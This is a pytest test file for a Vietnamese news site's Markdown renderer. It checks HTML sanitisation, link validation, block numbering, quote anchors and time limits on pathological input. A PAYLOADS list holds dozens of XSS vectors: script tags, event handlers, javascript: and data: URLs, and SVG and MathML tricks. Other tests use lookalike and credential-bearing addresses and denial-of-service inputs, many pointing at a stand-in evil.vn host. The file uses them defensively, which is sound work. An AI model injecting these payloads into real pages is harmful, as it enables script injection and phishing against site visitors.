"""What Markdown becomes: safe, equal to what the library makes of it, numbered block by block, and never guessed."""

import re
import time
from dataclasses import replace

import lxml.html
import markdown
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown.extensions.footnotes import FootnoteExtension

from khotin.content.articles import Article, Provenance
from khotin.content.text_files import read_source
from khotin.languages import Bilingual
from khotin.markup import (
    ENGLISH,
    as_markdown,
    find_anchor,
    find_excess,
    find_markup_problems,
    plain_text,
    render_markdown,
)
from khotin.markup.bounds import LONGEST_WORDS
from khotin.markup.conversion import _convert, _render_anything
from khotin.markup.fast_path import ADDRESS, plain_html
from khotin.markup.faults import MarkdownText, search_text
from khotin.markup.library import BACK_LINK, HouseRules
from khotin.problems import ERROR, WARNING
from khotin.site import urls

ALLOWED = {
    "a": {"href", "title", "id"},
    "img": {"src", "alt", "title"},
    "ol": {"start", "id"},
    "th": {"scope"},
    "div": {"class", "id"},
}
EVERYWHERE = {"id"}
TAGS = set(
    """
        p h2 h3 h4 ul ol li blockquote table thead tbody tr th td em strong code pre a img br hr sup sub div figure
        figcaption
    """.split()
)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.vn/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p onclick=alert(1)>x</p>",
    "<p/onmouseover=alert(1)>x</p>",
    "<img src=x onerror=alert(1)>",
    "<img src='//evil.vn/pixel.gif'>",
    "<img srcset='https://evil.vn/x.png 2x'>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='https://evil.vn/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.vn/'><input name=q><button>x</button></form>",
    "<base href='https://evil.vn/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.vn/'>",
    "<link rel=stylesheet href='https://evil.vn/x.css'>",
    "<style>body { background: url(https://evil.vn/) }</style>",
    "<p style='background: url(https://evil.vn/)'>x</p>",
    "<frameset><frame src='https://evil.vn/'></frameset>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<video src='https://evil.vn/x.mp4' autoplay onloadstart=alert(1)></video>",
    "<audio src='https://evil.vn/x.mp3'></audio>",
    "<details ontoggle=alert(1) open>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action='javascript:alert(1)'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.vn/)",
    "[x](/\\evil.vn/)",
    "[x](\\\\evil.vn/)",
    "[x](/\t/evil.vn/)",
    "[x](https:evil.vn)",
    "[x](https:/\\evil.vn)",
    "[x](magnet:?xt=urn:btih:1)",
    '[x](https://a.vn "x\\" onclick=alert(1) \\"")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.vn/pixel.gif)",
    "![x](//evil.vn/pixel.gif)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x"onerror=alert(1)](a.jpg)',
    "<p id=main class=site-header>x</p>",
    "<h2 id='__proto__'>x</h2>",
    "<a name=main id=main href='#main'>x</a>",
    "<div class='visually-hidden'>x</div>",
    "{{ config }} {% include 'x' %} {# x #}",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
]

PIECES = st.sampled_from(
    [
        "Đài truyền thanh",
        "126 trạm",
        " ",
        "\n",
        "\n\n",
        "*",
        "**",
        "_",
        "`",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        "&",
        "&amp;",
        "<b>",
        "</b>",
        "<div>",
        "\\",
        "#",
        "## ",
        "1. ",
        "- ",
        "> ",
        "    ",
        "  \n",
        "!",
        "|",
        "---",
        "===",
        "[^1]",
        "[^1]: x",
        "https://a.vn/",
        "<!--",
        "-->",
        ":",
        "ảnh.jpg",
        "\x02",
        "&#",
    ]
)
TEXTS = st.lists(PIECES, max_size=24).map("".join)
# What plain news consists of, so that many texts made of it are plain, and what might be taken for it.
PLAIN_PIECES = st.sampled_from(
    [
        "Đài",
        "126",
        "a",
        " ",
        "\n",
        "\n\n",
        "*",
        "**",
        "[",
        "]",
        "(",
        ")",
        "](https://a.vn/)",
        "[x](https://a.vn)",
        "&",
        "&lt",
        ";",
        "#",
        "## ",
        "### ",
        "1. ",
        "- ",
        "\n- ",
        "> ",
        "\n\n> ",
        "!",
        "|",
        "---",
        "===",
        "^",
        "[^1]",
        ": ",
        "http://a.vn/b-c?d=e#f",
        "*Ảnh: ",
        "*Ảnh: x*",
        "**đậm**",
        "“",
        "”",
        "...",
        "~",
        '"',
        "'",
        "  ",
        "\u2028",
        "\u3000",
        "\xa0",
        "\xad",
        "\u0301",
        "{",
        "}",
        "@",
        "[a]: https://a.vn",
        "$",
        "%",
        "*[a]: b",
        "{#x .y}",
        "Photo: ",
        "- ba",
        "> năm",
        "\n\n## Sáu\n\n",
    ]
)
PLAIN_TEXTS = st.lists(PLAIN_PIECES, max_size=14).map("".join)


def parse(html):
    return lxml.html.fragment_fromstring(str(html), create_parent="main")


def make_article(body, english=None):
    empty = Bilingual("", "")
    return Article(
        id="2022-06-15-a",
        path="content/articles/2022-06-15-a.md",
        title=empty,
        summary=empty,
        published="2022-06-15",
        event=None,
        event_end=None,
        province=None,
        district=None,
        topics=(),
        authors=(),
        offices=(),
        dateline=None,
        source=Provenance(),
        figures=(),
        status="published",
        drafted=(),
        pending=(),
        reviewed=None,
        added=None,
        aliases=(),
        corrections=(),
        withdrawal=None,
        accepted=(),
        removed=(),
        body=body,
        body_line=20,
        english_body=english,
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_g01_a_payload_leaves_nothing_but_known_tags_and_safe_addresses(payload):
    check_safe(render_markdown(f"Trước.\n\n{payload}\n\nSau."))


@given(TEXTS)
@settings(max_examples=150, deadline=None)
def test_g01_whatever_is_written_leaves_nothing_but_known_tags_and_safe_addresses(text):
    check_safe(render_markdown(text))


def check_safe(html):
    for element in parse(html).iterdescendants():
        assert element.tag in TAGS
        assert set(element.keys()) <= ALLOWED.get(element.tag, set()) | EVERYWHERE
        assert element.get("class") in (None, "", "footnote")
        assert "src" not in element.attrib, "no picture is published with the text"
        if address := element.get("href"):
            assert re.match(r"https?://[^/\\]|mailto:|tel:|/(vi|en)/|#p", address), address
        if identity := element.get("id"):
            assert identity.startswith("p")


@pytest.mark.parametrize("text", ["{{ config.title }}", "{% raw %}", "{# x #}"])
def test_g05_signs_of_a_template_are_shown_as_typed(text):
    assert parse(render_markdown(text)).text_content().strip() == text


def test_g06_ids_of_a_text_are_its_own():
    html = parse(render_markdown('<h2 id="main">a</h2>\n\nb', prefix=ENGLISH))
    assert html.xpath("//@id") == ["e-main", "e2"]


@given(TEXTS)
@settings(max_examples=300, deadline=None)
def test_the_shortcuts_change_nothing(text):
    stock = markdown.Markdown(
        extensions=["tables", FootnoteExtension(BACKLINK_TITLE=BACK_LINK.vi), "sane_lists", HouseRules()],
        output_format="html",
    )
    assert _convert(text, "vi") == stock.convert(text)


def check_plain(text):
    html = plain_html(text, "p")
    assert html is None or html == _render_anything(text, "vi", "/", "p", ())


@given(PLAIN_TEXTS | TEXTS | st.text(max_size=40))
@settings(max_examples=2000)
def test_plain_news_is_what_library_and_cleaning_would_make_of_it(text):
    check_plain(text)


@given(PLAIN_TEXTS)
@settings(max_examples=1000)
def test_there_is_nothing_wrong_with_plain_news(text):
    if plain_html(text, "p") is not None:
        assert not search_text(MarkdownText("a.md", 1, text, "p", True), (), ())


def test_no_two_signs_beside_each_other_make_plain_news_something_else():
    signs = PLAIN_PIECES.elements
    for first in signs:
        for second in signs:
            check_plain(f"{first}{second}")
            check_plain(f"x{first}{second}x")


@given(st.from_regex(ADDRESS, fullmatch=True).filter(lambda address: len(address) < LONGEST_WORDS - len("[x]()")))
def test_the_address_of_plain_news_is_one_that_cleaning_leaves_alone(address):
    assert (
        plain_html(f"[x]({address})", "p")
        == f'<p id="p1"><a href="{address}">x</a></p>'
        == _render_anything(f"[x]({address})", "vi", "/", "p", ())
    )


def test_every_character_of_plain_news_is_one_that_both_libraries_leave_alone():
    letters = [letter for letter in map(chr, range(0x3000)) if plain_html(f"a{letter}b", "p")]
    text = "\n\n".join(f"a{letter}b *c{letter}d*" for letter in letters)
    assert plain_html(text, "p") == _render_anything(text, "vi", "/", "p", ()) and len(letters) > 8000


def test_most_of_what_news_consists_of_is_plain():
    text = "\n\n".join(
        [
            "(CTTĐTBP) - Ngày 15/6/2022, Sở TT&TT (R&D) đạt 5 > 4.",
            "*Ảnh: Hội nghị*",
            "## Đề mục",
            "- một **hai**\n- *ba*",
            "> Trích",
            "2019 [bốn](https://a.vn/b).",
            "126 trạm./.",
        ]
    )
    assert plain_html(text, "e") == _render_anything(text, "vi", "/", "e", ())


def test_f02_nothing_leaks_from_one_text_into_the_next():
    texts = ["Xem[^1].\n\n[^1]: Ghi chú.", "[a]\n\n[a]: https://a.vn", "Xem[^1] [a]", "<b>\n\nx"]
    alone = {text: render_markdown(text) for text in texts}
    assert [render_markdown(text) for text in reversed(texts)] == [alone[text] for text in reversed(texts)]
    assert 'href="#' not in alone["Xem[^1] [a]"]


@pytest.mark.parametrize(
    "text",
    [
        "1945. Cách mạng tháng Tám",
        "12) Khoản mười hai",
        "- Về kinh tế:",
        "+ Thu ngân sách",
        "* Ghi chú",
        "# Không phải đề mục",
        "> 90%",
        "---",
        "===",
        "***",
        "Hai * ba = sáu",
        "a_b_c và _d_",
        "R&D &amp; <b>x</b>",
        "`lệnh` \\ [1]: https://a.vn",
        "[^1]: x",
        "![a](b)",
        "{{ x }}",
        "<https://a.vn>",
        "5 < 6 > 4",
        "C:\\*.*",
        "*Ảnh: không phải chú thích*",
        "| a | b |",
        "",
        "=",
        "2020.",
    ],
)
def test_f03_plain_text_comes_out_as_the_text_it_was(text):
    assert plain_text(as_markdown(text)) == text


@given(st.text(max_size=60) | TEXTS)
@settings(max_examples=300, deadline=None)
def test_f03_any_line_of_plain_text_comes_out_as_it_was(text):
    line = " ".join("".join(c for c in text if c.isprintable() or c == "\n").split())
    assert plain_text(as_markdown(line)) == line


def test_f03_indents_of_plain_text_make_no_code():
    assert render_markdown(as_markdown("\t    Về kinh tế")) == '<p id="p1">Về kinh tế</p>'


def test_text_that_needs_no_escape_gets_none():
    line = "Ngày 15/6/2022, giá 56,8 tỷ (tăng 7,5%) - theo UBND_tỉnh; R&D: 3 * 4./."
    assert as_markdown(line) == line


def test_f04_headings_stand_below_the_title_of_the_page():
    assert [e.tag for e in parse(render_markdown("# a\n\n## b\n\n##### c\n\n<h1>d</h1>"))] == ["h2", "h2", "h4"]
    [problem] = find_markup_problems(make_article("Một.\n\n# Hai"), ())
    assert (problem.severity, problem.where.line, problem.hint) == (WARNING, 22, "## Hai")


def test_f05_notes_tables_and_their_targets_survive():
    html = parse(render_markdown("Xem[^a] và[^b].\n\n| a |\n|---|\n| b |\n\n[^a]: Một.\n[^b]: Hai."))
    targets = [address[1:] for address in html.xpath("//@href")]
    assert len(targets) == 4 and set(targets) <= set(html.xpath("//@id"))
    assert html.xpath("//table//td/text()") == ["b"]


def test_f05_notes_of_two_texts_on_one_page_keep_apart():
    text = "Xem[^1].\n\n[^1]: Ghi chú."
    first, second = (set(parse(render_markdown(text, prefix=prefix)).xpath("//@id")) for prefix in ("p", "e"))
    assert first and not first & second


def test_a_caption_is_a_figure_with_its_picture_where_there_is_one():
    assert render_markdown("*Ảnh: Hội nghị*") == '<figure id="p1"><figcaption>Ảnh: Hội nghị</figcaption></figure>'
    assert render_markdown("![tả](a.jpg)\n\n*Ảnh: Hội nghị*", pictures=(("a.jpg", "/a.jpg"),)) == (
        '<figure id="p1"><img alt="tả" src="/a.jpg"><figcaption>Ảnh: Hội nghị</figcaption></figure>'
    )
    assert render_markdown("*Ảnh: Hội nghị* và *Ảnh: b*").startswith("<p")


def test_blocks_are_numbered_from_the_outside():
    html = parse(render_markdown("a\n\n- b\n\n    c\n\n- d\n\n---\n\n## e\n\n> f"))
    assert [(e.tag, e.get("id")) for e in html] == [
        ("p", "p1"),
        ("ul", "p2"),
        ("hr", "p3"),
        ("h2", "p4"),
        ("blockquote", "p5"),
    ]


@given(
    st.lists(
        st.sampled_from(
            [
                "Một câu.",
                "“Hai” 12 tỷ, 3.",
                "*Ảnh: Ba*",
                "## Bốn",
                "(CTTĐTBP) - Năm",
                "2019 là sáu",
                "- bảy",
                "1. tám",
                "a\nb | c",
                "\\- chín",
                "1945\\. mười",
                "    mã",
                "> trích",
            ]
        ),
        max_size=8,
    )
)
def test_the_anchor_of_a_quote_is_the_id_of_its_block(blocks):
    body = "\n\n".join(blocks)
    html = parse(render_markdown(body))
    for quote in ("câu.", "12 tỷ", "Ba", "Bốn", "Năm", "sáu", "bảy", "tám", "b | c", "chín", "mười", "mã", "trích"):
        anchor = find_anchor(body, quote)
        holders = [element.get("id") for element in html if quote in element.text_content()]
        assert anchor == (holders[0] if holders else None)


def test_a_quote_is_found_across_marks_and_blanks():
    body = "Một.\n\nHuyện có *126*  trạm BTS.\n\n*Ảnh: Ba*"
    assert (find_anchor(body, "126 trạm BTS"), find_anchor(body, "127 trạm")) == ("p2", None)
    assert find_anchor("- một\n\n- hai &amp; ba\n\nBốn <b>5</b>  tỷ.", "hai & ba") == "p1"
    assert find_anchor("- một\n\n- hai\n\nBốn <b>5</b>  tỷ.", "Bốn 5 tỷ", ENGLISH) == "e2"
    assert find_anchor("\\- Về kinh tế: 5 tỷ\n\n1945\\. Cách mạng", "1945. Cách mạng") == "p2"


def test_c12_a_link_between_articles_leads_to_its_address_in_the_language_of_the_page():
    for link in ("2022-06-15-x.md", "../2022/2022-06-15-x.md"):
        html = render_markdown(f"[a]({link})", "en", link_to=urls.links_of("en", "/kho-tin/"))
        assert 'href="/kho-tin/en/news/2022-06-15-x/"' in html
    link_to = urls.links_of("vi", "/")
    assert 'href="/vi/tin/2022-06-15-x/#p3"' in render_markdown("[a](2022-06-15-x.md#p3)", link_to=link_to)
    assert 'href="/vi/quy-tac-bien-tap/"' in render_markdown("[a](editorial-rules.md)", link_to=link_to)


@pytest.mark.parametrize(
    "body",
    [
        "Một đoạn thường, 5 tỷ.",
        "[a](2022-06-15-x.md)",
        "[a](https://a.vn/b_(c))",
        "[a](about.md)",
        "Xem[^1].\n\n[^1]: b",
        "[a](#p1)",
        "![tả | words](a.jpg)",
        "![-](a.jpg)",
        "[a] không phải liên kết",
        "[a]: https://a.vn\n\nxem [a]",
        "> trích\n\n- mục\n\n<b>đậm</b>",
        "[thư](mailto:a@b.vn)",
    ],
)
def test_nothing_is_said_of_what_can_be_published(body):
    assert find_markup_problems(make_article(body), {"2022-06-15-x", "about"}, {"a.jpg"}) == []


@pytest.mark.parametrize(
    ("body", "line", "part", "hint"),
    [
        (
            "Một.\n\n[a](2022-06-15-y.md)",
            22,
            'no article "2022-06-15-y"; did you mean "2022-06-15-x"?',
            "2022-06-15-x.md",
        ),
        ("[a](/vi/tin/2022-06-15-x/)", 20, "leads nowhere", None),
        ("[a](2022-06-15-X.md)", 20, "leads nowhere", None),
        ("[a](//evil.vn)", 20, "leads nowhere", None),
        ("[a](javascript:alert(1))", 20, "leads nowhere", None),
        ("[a]: ten-bai.html\n\nxem [a]", 20, "leads nowhere", None),
        ("a\n<a href='khac/'>b</a>", 21, "leads nowhere", None),
        ("[a](#p9)", 20, 'no place "#p9"', None),
        ("[a](#khong)", 20, 'no place "#khong"', None),
        ("![tả](https://evil.vn/a.jpg)", 20, "load nothing from elsewhere", None),
        ("![tả](//evil.vn/a.jpg)", 20, "load nothing from elsewhere", None),
        ("<img src=https://evil.vn/a.jpg>", 20, "load nothing from elsewhere", None),
        ("[![tả](b.png)](https://a.vn)", 20, 'no picture "b.png"', None),
        ("![tả](A.jpg)", 20, 'did you mean "a.jpg"?', None),
        ("![](a.jpg)", 20, "no words that describe it", "![…](a.jpg)"),
    ],
)
def test_what_cannot_be_published_is_an_error_with_its_line(body, line, part, hint):
    [problem] = find_markup_problems(make_article(body), {"2022-06-15-x"}, {"a.jpg"})
    assert (problem.severity, problem.where.line, problem.hint) == (ERROR, line, hint)
    assert part in problem.message.en


def test_the_english_text_is_looked_at_in_its_own_file():
    [problem] = find_markup_problems(make_article("a", "b\n\n[c](khong-co.md)"), ())
    assert (problem.where.path, problem.where.line) == ("content/articles/2022-06-15-a.en.md", 3)


HEAVY = {
    "brackets": "[" * 300_000,
    "pictures": "![" * 100_000,
    "tags": "<a " * 90_000,
    "marked sections": "<![CDATA[" * 20_000,
    "comments": "<!--" * 50_000,
    "headings": "a\n===\n" * 40_000,
    "hashes": "# a\n" * 60_000,
    "deep lists": "\n".join("    " * i + "- a" for i in range(300)),
    "deep quotes": "> " * 60_000 + "a",
    "tight quotes": ">" * 200_000 + "a",
    "markers": "* " * 500 + "a",
    "hyphens": "- " * 500 + "a",
    "pluses": "+ " * 500 + "a",
    "numbers": "1. " * 500 + "a",
    "quotations": "> " * 500,
    "mixed markers": "1. > - + * " * 100 + "a",
    "indented markers": "    " * 5 + "- " * 30 + "a",
    "many markers": ("- " * 15 + "a\n") * 8000,
    "stars": "*a " * 80_000,
    "emphasis": "*a* **b** " * 25_000,
    "50,000 words": " ".join(["*chữ*"] * 50_000),
    "underscores": "_a_ b " * 40_000,
    "both": "*_" * 100_000,
    "many paragraphs of emphasis": ("*a* " * 2000 + "\n\n") * 30,
    "entities": "&#x41;" * 40_000,
    "ands": "&a" * 120_000,
    "slashes": "\\" * 10_000,
    "ticks": "`a ``b " * 35_000,
    "codes": "`a` " * 60_000,
    "lengths of ticks": "".join("`" * number + "a" for number in range(700)),
    "blanks": " " * 100_000 + "a",
    "lines": "a\n" * 100_000,
    "bars": "a|b\n-|-\n" + "`|" * 60_000,
    "wide table": "a|" * 450 + "\n" + "-|" * 450 + "\n" + "b\n" * 9000,
    "fences": "```\n~~~\n" * 2000,
    "notes": "".join(f"x[^{i}] " for i in range(9000)) + "\n\n" + "".join(f"[^{i}]: a\n" for i in range(9000)),
}
# Two seconds an article may take; processors that others share count up to so many times as many.
BUSY = 2
BEARABLE = {
    "brackets": "[" * 1000,
    "pictures": "![" * 1000,
    "nested": "[" * 500 + "]" * 500,
    "tags": "<a " * 500,
    "markers": "<![CDATA[" * 500,
    "divisions": "<div>" * 500,
    "headings": "a\n===\n" * 500,
    "lists": "\n".join("    " * i + "- a" for i in range(10)),
    "quotes": "> " * 19 + "a",
    "dashes": "_" * 250_000,
    "rules": "- " * 40 + "\n\na\n" + "* " * 40,
    "levels": "\n".join("\t" * number + "- " * 19 + "a" for number in range(39)),
    "deep items": ("- " * 19 + "a\n") * 1000,
    "stars": "*a " * 4900 + "a" * 230_000,
    "words": " ".join(["*chữ*"] * 2400) + "ữ" * 70_000,
    "both": "*_" * 2400 + "a" * 200_000,
    "mixed": "*a **b " * 1200 + "c** d*" * 1200,
    "emphasis": ("*a* **b** " * 1200 + "\n\n") * 4,
    "entities": ("&#x41;" * 4900 + "\n\n") * 4,
    "slashes": "\\" * 4900 + "a" * 230_000,
    "codes": "`a` " * 490 + "a" * 240_000,
    "lengths of ticks": "".join("`" * number + "a" for number in range(44)) + "a" * 240_000,
    "breaks": "a  \n" * 10_000,
    "table": "a|b\n-|-\n" + "*c*|d\n" * 2400 + "c|d\n" * 7000,
    "rows": "- a\n" * 10_000,
    "fences": "".join("~" * (number + 3) + "\n" for number in range(200)) + "c\n" * 9000,
    "one line": "*a" + " a" * 120_000,
    "links": "[a](https://a.vn/) " * 1000,
    "titles": '[a…](https://a.b "t) ' * 900,
    "open brackets": "[a" * 900 + "](https://" + "a-" * 60_000,
    "open addresses": "[a](" * 990 + "a" * 240_000,
    "open tags": '<a b="' * 490 + " c" * 120_000,
    "attributes": "<a" + "".join(f" {number:x}" for number in range(40_000)) + ">",
    "blank lines": " \n" * 9900 + "a",
    "blanks inside": "a" + " " * 250_000 + "b",
    "blocks": "a\n\n" * 5000,
}


@pytest.mark.parametrize("name", HEAVY)
def test_f01_a_text_that_would_take_too_long_is_one_error_with_its_line(name):
    started = time.process_time()
    problem = find_excess("a.md", 7, HEAVY[name][:262_144])
    assert (problem.severity, problem.where.path) == (ERROR, "a.md") and problem.where.line >= 7
    assert plain_text(HEAVY[name][:262_144]) == HEAVY[name][:262_144].strip()
    assert time.process_time() - started < 2


@pytest.mark.parametrize("name", BEARABLE)
@pytest.mark.parametrize(
    "read",
    [
        lambda text: find_markup_problems(make_article(text), ()),
        render_markdown,
        lambda text: render_markdown(text, is_text_page=True),
        plain_text,
        lambda text: find_anchor(text, "không có"),
    ],
    ids=["faults", "article", "text page", "plain text", "anchor"],
)
def test_f01_what_stays_within_the_bounds_is_rendered_in_time(name, read):
    assert find_excess("a.md", 7, BEARABLE[name]) is None
    started = time.process_time()
    read(BEARABLE[name])
    assert time.process_time() - started < 2 * BUSY


def test_f01_the_error_names_the_line_that_goes_too_far():
    assert find_excess("a.md", 7, "a\n\n" + "- " * 30 + "b").where.line == 9
    assert find_excess("a.md", 7, "a\n\n" + "*b* " * 3000).where.line == 9
    assert find_excess("a.md", 7, "a|b\n" * 3 + "c|" * 600).where.line == 10


def test_f01_plain_text_with_too_many_marks_is_escaped_without_being_rendered():
    started = time.process_time()
    assert as_markdown("* " * 500 + "a").startswith("\\* ")
    assert as_markdown("*a " * 60_000) and time.process_time() - started < 2


def test_a_word_beyond_the_reach_of_a_link_stays_as_typed():
    assert render_markdown(f"[{'a' * 1990}](https://a.vn)").count("<a ") == 1
    assert render_markdown(f"[{'a' * 2010}](https://a.vn)").count("<a ") == 0


def test_f06_plain_text_has_whole_words_and_no_marks():
    assert (
        plain_text("Một *hai*[^1] &amp; [ba](https://a.vn).\n\n*Ảnh: bốn*\n\n[^1]: Năm.")
        == "Một hai & ba.\nẢnh: bốn\nNăm."
    )


@pytest.mark.parametrize("line", ["=======", "<<<<<<< HEAD", "||||||| gốc *a*", ">>>>>>> nhánh <b>"])
def test_a_line_of_a_source_that_looks_like_a_conflict_marker_is_kept_as_text(tmp_path, line):
    (tmp_path / "bai.md").write_text(as_markdown(line), encoding="utf-8")
    assert plain_text(read_source(tmp_path / "bai.md").text) == line


@pytest.mark.parametrize(
    "address",
    [
        "https://аngiang.gov.vn",
        "https://google.com@evil.example/",
        "https://a.vn/x\u2044y",
        "https://&#1072;ngiang.gov.vn",
        "https://a.vn:99999/",
        "https://[::1",
    ],
)
@pytest.mark.parametrize(
    "written",
    [
        "[x]({})",
        "[x](<{}>)",
        "<{}>",
        "[x][1]\n\n[1]: {}",
        "[x][1]\n\n[1]:\n {}",
        '<a href="{}">x</a>',
        "[![ảnh](a.jpg)]({})",
    ],
)
def test_a_link_to_a_misleading_address_is_an_error_with_its_line(plain_article, address, written):
    article = replace(plain_article, body=f"Một đoạn.\n\n{written.format(address)}\n")
    problem, *_ = find_markup_problems(article, (), ("a.jpg",))
    assert (problem.severity, problem.rule) == (ERROR, "links")
    assert problem.where.line >= article.body_line + 2 and f'liên kết "{address}"' in problem.message.vi
